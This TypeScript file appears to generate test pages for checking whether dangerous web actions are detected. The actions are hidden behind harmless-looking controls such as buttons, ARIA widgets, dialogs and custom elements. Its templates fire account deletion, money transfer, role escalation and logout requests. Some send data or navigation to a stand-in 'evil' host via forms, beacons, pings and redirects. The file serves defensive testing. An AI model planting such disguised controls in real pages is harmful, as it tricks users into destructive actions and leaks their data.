/** KINDS: carriers of a forbidden effect, as markup; every request below the page's own path is one. */

import type { Carried, Kind } from './kind';
import { MORE_CONTROLS, moreRequestKinds } from './more-kinds';

const attribute = (text: string) => text.replaceAll('&', '&amp;').replaceAll('"', '&quot;');
const text = (name: string) => name.replaceAll('&', '&amp;').replaceAll('<', '&lt;');
const script = (code: string) => `<script>${code}</script>`;
const listen = (event: string, hit: string, when = 'true') =>
  script(
    `for (const one of document.querySelectorAll('[data-it]')) one.addEventListener('${event}', (event) => { if (${when}) { ${hit} } });`,
  );
const box = 'style="display:inline-block;padding:9px;min-width:90px;border:1px solid"';

const BY_CONTROL: Readonly<Record<string, Kind['body']>> = {
  button: ({ name, hit }) => `<button data-it>${text(name)}</button>${listen('click', hit)}`,
  'button with handler': ({ name, hit }) => `<button onclick="${attribute(hit)}">${text(name)}</button>`,
  'role button': ({ name, hit }) =>
    `<div role="button" tabindex="0" data-it ${box}>${text(name)}</div>${listen('click', hit)}`,
  'plain span': ({ name, hit }) =>
    `<span data-it style="cursor:pointer" ${box}>${text(name)}</span>${listen('click', hit)}`,
  'input button': ({ name, hit }) => `<input type="button" data-it value="${attribute(name)}">${listen('click', hit)}`,
  'image input': ({ name, path }) =>
    `<form method="post" action="${path}"><input type="image" alt="${attribute(name)}" width="40" height="20" src="data:image/gif;base64,R0lGODlhAQABAAAAACw="></form>`,
  'submit button': ({ name, path }) => `<form method="post" action="${path}"><button>${text(name)}</button></form>`,
  'form by GET': ({ name, path }) =>
    `<form action="${path}"><label>Amount <input name="a"></label><button>${text(name)}</button></form>`,
  'form by script': ({ name, hit }) =>
    `<form data-it><label>Words <input name="w"></label><button>${text(name)}</button></form>${listen('submit', `event.preventDefault();${hit}`)}`,
  'radio in a form': ({ name, path }) =>
    `<form method="post" action="${path}"><label><input type="radio" name="r" value="1"> One</label><label><input type="checkbox" name="c"> Two</label><button>${text(name)}</button></form>`,
  'icon with label': ({ name, hit }) =>
    `<button aria-label="${attribute(name)}" data-it><svg width="16" height="16"><path d="M0 0h16v16z"/></svg></button>${listen('click', hit)}`,
  'icon with title': ({ name, hit }) => `<button title="${attribute(name)}" data-it>◆</button>${listen('click', hit)}`,
  'image with alt': ({ name, hit }) =>
    `<button data-it><img alt="${attribute(name)}" width="20" height="20" src="data:image/gif;base64,R0lGODlhAQABAAAAACw="></button>${listen('click', hit)}`,
  'svg button': ({ name, hit }) =>
    `<svg width="120" height="30" role="img"><g role="button" tabindex="0" aria-label="${attribute(name)}" data-it><rect width="120" height="30"/></g></svg>${listen('click', hit)}`,
  'web component': ({ name, hit }) =>
    `<x-act></x-act>${script(`customElements.define('x-act', class extends HTMLElement { constructor() { super(); const root = this.attachShadow({mode:'open'}); root.innerHTML = '<button>' + ${JSON.stringify(text(name))} + '</button>'; root.firstChild.onclick = () => { ${hit} } } })`)}`,
  'slotted words': ({ name, hit }) =>
    `<x-wrap>${text(name)}</x-wrap>${script(`customElements.define('x-wrap', class extends HTMLElement { constructor() { super(); const root = this.attachShadow({mode:'open'}); root.innerHTML = '<button><slot></slot></button>'; root.firstChild.onclick = () => { ${hit} } } })`)}`,
  'script link': ({ name, hit }) =>
    `<a href="#" data-it>${text(name)}</a>${listen('click', `event.preventDefault();${hit}`)}`,
  'script address': ({ name, hit }) => `<a href="javascript:void 0" data-it>${text(name)}</a>${listen('click', hit)}`,
  'menu item': ({ name, hit }) =>
    `<div role="menu"><div role="menuitem" tabindex="0" data-it ${box}>${text(name)}</div></div>${listen('click', hit)}`,
  'tab role': ({ name, hit }) =>
    `<div role="tablist"><div role="tab" tabindex="0" data-it ${box}>${text(name)}</div></div>${listen('click', hit)}`,
  'option role': ({ name, hit }) =>
    `<div role="listbox"><div role="option" tabindex="0" data-it ${box}>${text(name)}</div></div>${listen('click', hit)}`,
  'tree item': ({ name, hit }) =>
    `<div role="tree"><div role="treeitem" tabindex="0" data-it ${box}>${text(name)}</div></div>${listen('dblclick', hit)}`,
  'grid cell': ({ name, hit }) =>
    `<table role="grid"><tr role="row"><td role="gridcell" tabindex="0" data-it>${text(name)}</td></tr></table>${listen('click', hit)}`,
  'switch role': ({ name, hit }) =>
    `<div role="switch" aria-checked="false" tabindex="0" data-it ${box}>${text(name)}</div>${listen('click', hit)}`,
  checkbox: ({ name, hit }) => `<label><input type="checkbox" data-it> ${text(name)}</label>${listen('change', hit)}`,
  'labelled radio': ({ name, hit }) =>
    `<label><input type="radio" data-it> ${text(name)}</label>${listen('change', hit)}`,
  'combobox role': ({ name, hit }) =>
    `<div role="combobox" aria-label="${attribute(name)}" tabindex="0" data-it ${box}>${text(name)}</div>${listen('click', hit)}`,
  'slider role': ({ name, hit }) =>
    `<div role="slider" tabindex="0" aria-label="${attribute(name)}" aria-valuenow="0" aria-valuemax="9" data-it ${box}>o</div>${listen('click', hit)}${listen('keydown', hit)}`,
  'range to the end': ({ name, hit }) =>
    `<input type="range" min="0" max="9" value="0" aria-label="${attribute(name)}" data-it>${listen('input', hit, 'event.target.value > 8')}`,
  'claims to open': ({ name, hit }) =>
    `<button aria-expanded="false" aria-haspopup="menu" data-it>${text(name)}</button>${listen('click', hit)}`,
  'claims to switch': ({ name, hit }) =>
    `<button aria-pressed="false" data-it>${text(name)}</button>${listen('click', hit)}`,
  summary: ({ name, hit }) => `<details data-it><summary>${text(name)}</summary>more</details>${listen('toggle', hit)}`,
  'editable button': ({ name, hit }) =>
    `<div role="button" contenteditable="true" tabindex="0" data-it ${box}>${text(name)}</div>${listen('click', hit)}`,
  'editable text': ({ name, hit }) =>
    `<div contenteditable="true" aria-label="${attribute(name)}" data-it ${box}>${text(name)}</div>${listen('click', hit)}`,
  'option of a list': ({ name, hit }) =>
    `<select aria-label="Row" data-it><option>-</option><option>${text(name)}</option></select>${listen('change', hit, 'event.target.selectedIndex === 1')}`,
  'list with a name': ({ name, hit }) =>
    `<select aria-label="${attribute(name)}" data-it><option>No</option><option>Yes</option></select>${listen('change', hit, "event.target.value === 'Yes'")}`,
  'field beside a button': ({ name, hit }) =>
    `<div><input aria-label="Words" data-it><button>${text(name)}</button></div>${listen('keydown', hit, "event.key === 'Enter'")}`,
  'area beside a button': ({ name, hit }) =>
    `<div><textarea aria-label="Words" data-it></textarea><button>${text(name)}</button></div>${listen('keydown', hit, "event.key === 'Enter' && (event.ctrlKey || event.metaKey)")}`,
  'drop place': ({ name, hit }) =>
    `<div draggable="true" tabindex="0" role="button" aria-label="Row 7" ${box}>Row 7</div><div role="button" tabindex="0" aria-label="${attribute(name)}" data-it ${box}>${text(name)}</div>${listen('dragover', 'event.preventDefault()')}${listen('drop', hit)}`,
  'acts on pointer down': ({ name, hit }) => `<button data-it>${text(name)}</button>${listen('pointerdown', hit)}`,
  'acts on key down': ({ name, hit }) => `<button data-it>${text(name)}</button>${listen('keydown', hit)}`,
  'acts on focus': ({ name, hit }) => `<button data-it>${text(name)}</button>${listen('focus', hit)}`,
  'harmless label over words': ({ name, hit }) =>
    `<button aria-label="Next" data-it>${text(name)}</button>${listen('click', hit)}`,
  'harmless words, labelled': ({ name, hit }) =>
    `<button aria-label="${attribute(name)}" data-it>Next</button>${listen('click', hit)}`,
  'dialog of the platform': ({ name, hit }) =>
    `<dialog open><p>${text(name)}?</p><button data-it>OK</button><button>Cancel</button></dialog>${listen('click', hit)}`,
  'dialog by role': ({ name, hit }) =>
    `<div role="alertdialog" aria-modal="true" aria-label="${attribute(name)}"><p>${text(name)}?</p><button data-it>Next</button><button>Cancel</button></div>${listen('click', hit)}`,
  'dialog of plain boxes': ({ name, hit }) =>
    `<div style="position:fixed;inset:0;background:#0008;z-index:9"><div style="position:absolute;left:30%;top:30%;background:#fff;padding:20px"><p>${text(name)}?</p><button data-it>More</button><button>Cancel</button></div></div>${listen('click', hit)}`,
  'around a field': ({ name, hit }) =>
    `<div role="button" tabindex="0" aria-label="${attribute(name)}" data-it ${box}>${text(name)} <input aria-label="Code word"></div>${listen('click', hit)}`,
  'button in a cell': ({ name, hit }) =>
    `<table><tr><td>Row 7</td><td><button data-it>${text(name)}</button></td></tr></table>${listen('click', hit)}`,
  'disclosed words': ({ name, hit }) =>
    `<button aria-describedby="d" data-it>Next</button><p id="d">${text(name)}</p>${listen('click', hit)}`,
};

/** Harmless wording; the address, the method, the operation or the body tells. */
const telling = (path: string, n: number): string =>
  [
    `fetch('${path}/delete', {method:'POST'})`,
    `fetch('${path}/rows/7', {method:'DELETE'})`,
    `fetch('${path}/graphql', {method:'POST', body: JSON.stringify({query:'mutation { deleteUser(id: 7) { id } }'})})`,
    `fetch('${path}/rpc', {method:'POST', body: JSON.stringify({action:'send_message'})})`,
    `navigator.sendBeacon('${path}/pay', 'x')`,
    `x = new XMLHttpRequest(); x.open('POST', '${path}/transfer'); x.send('amount=1')`,
    `fetch(new Request('${path}/publish', {method:'PUT'}))`,
    `f = document.createElement('form'); f.method = 'post'; f.action = '${path}/account/close'; document.body.append(f); f.submit()`,
    `fetch('${path}/api', {method:'POST', body: new URLSearchParams({_method:'delete'})})`,
    `location.href = '${path}/logout'`,
    `setTimeout(() => fetch('${path}/messages/send', {method:'POST'}), 120)`,
    `Promise.resolve().then(() => fetch('${path}/orders/checkout', {method:'POST', body:'{}'}))`,
    `fetch('${path}/v1/members/9/role', {method:'PATCH', body:'{"role":"owner"}'})`,
    `fetch('${path}/users/7', {method:'POST', headers:{'x-http-method-override':'DELETE'}})`,
    `open('${path}/unsubscribe')`,
    `a = document.createElement('a'); a.href = '${path}/delete?id=7'; document.body.append(a); a.click()`,
  ][n % 16] ?? '';

const BY_REQUEST: Readonly<Record<string, (code: string, page: Carried) => string>> = {
  'harmless button': (code, { name }) => `<button data-it>${text(name)}</button>${listen('click', code)}`,
  'harmless menu item': (code, { name }) =>
    `<div role="menuitem" tabindex="0" data-it ${box}>${text(name)}</div>${listen('click', code)}`,
  'harmless tab': (code, { name }) =>
    `<div role="tab" tabindex="0" data-it ${box}>${text(name)}</div>${listen('click', code)}`,
  'harmless box': (code, { name }) =>
    `<label><input type="checkbox" data-it> ${text(name)}</label>${listen('change', code)}`,
  'harmless list': (code) =>
    `<select aria-label="Order by" data-it><option>a</option><option>b</option></select>${listen('change', code)}`,
  'harmless field': (code) => `<input aria-label="Filter" data-it>${listen('input', code)}`,
  'harmless opener': (code, { name }) =>
    `<button aria-expanded="false" data-it>${text(name)}</button>${listen('click', code)}`,
  'harmless hover': (code, { name }) => `<button data-it>${text(name)}</button>${listen('mouseover', code)}`,
  'harmless arrow': (code) => `<button aria-label="›" data-it>›</button>${listen('click', code)}`,
  'harmless form': (_, { name, path }) =>
    `<form method="post" action="${path}/account/delete"><button>${text(name)}</button></form>`,
  'harmless link': (_, { name, path }) => `<a href="${path}/logout">${text(name)}</a>`,
};

const BY_BROWSER: Readonly<Record<string, Kind['body']>> = {
  'link away': ({ name, path, evil }) => `<a href="${evil}${path}">${text(name)}</a>`,
  'link away in a new tab': ({ name, path, evil }) => `<a href="${evil}${path}" target="_blank">${text(name)}</a>`,
  'script away': ({ name, path, evil }) =>
    `<button data-it>${text(name)}</button>${listen('click', `location = '${evil}${path}'`)}`,
  'window away': ({ name, path, evil }) =>
    `<button data-it>${text(name)}</button>${listen('click', `open('${evil}${path}')`)}`,
  'form away': ({ name, path, evil }) =>
    `<form action="${evil}${path}"><input type="hidden" name="d" value="4711"><button>${text(name)}</button></form>`,
  'form away by box': ({ name, path, evil }) =>
    `<form action="${evil}${path}" method="post"><label><input type="checkbox" data-it> ${text(name)}</label></form>${listen('change', 'event.target.form.submit()')}`,
  'form away, made late': ({ name, path, evil }) =>
    `<button data-it>${text(name)}</button>${listen('click', `f = document.createElement('form'); f.action = '${evil}${path}'; document.body.append(f); f.requestSubmit()`)}`,
  'button away': ({ name, path, evil }) =>
    `<form action="/benign"><button formaction="${evil}${path}">${text(name)}</button></form>`,
  'ping away': ({ name, path, evil }) => `<a href="#x" ping="${evil}${path}">${text(name)}</a>`,
  'address changed late': ({ name, path, evil }) =>
    `<a href="/benign" data-it>${text(name)}</a>${listen('mousedown', `event.target.href = '${evil}${path}'`)}`,
  'redirect away': ({ name, path, evil }) =>
    `<a href="/redirect?to=${encodeURIComponent(`${evil}${path}`)}">${text(name)}</a>`,
  'beacon away': ({ name, path, evil }) =>
    `<button data-it>${text(name)}</button>${listen('click', `navigator.sendBeacon('${evil}${path}', '4711')`)}`,
  'svg link away': ({ name, path, evil }) =>
    `<svg width="90" height="40"><a href="${evil}${path}" aria-label="${attribute(name)}"><rect width="90" height="40"/></a></svg>`,
  'refresh away': ({ name, path, evil }) =>
    `<button data-it>${text(name)}</button>${listen('click', `m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=${evil}${path}'; document.head.append(m)`)}`,
};

const WAYS_OF_REQUESTS = 16;

export const KINDS: readonly Kind[] = [
  ...Object.entries({ ...BY_CONTROL, ...MORE_CONTROLS }).map(([id, body]): Kind => ({ id, by: 'control', body })),
  ...moreRequestKinds(),
  ...Object.entries(BY_REQUEST).flatMap(([id, body]) =>
    Array.from(
      { length: WAYS_OF_REQUESTS },
      (_, n): Kind => ({ id: `${id} ${n}`, by: 'request', body: (page) => body(telling(page.path, n), page) }),
    ),
  ),
  ...Object.entries(BY_BROWSER).map(([id, body]): Kind => ({ id, by: 'browser', body })),
];
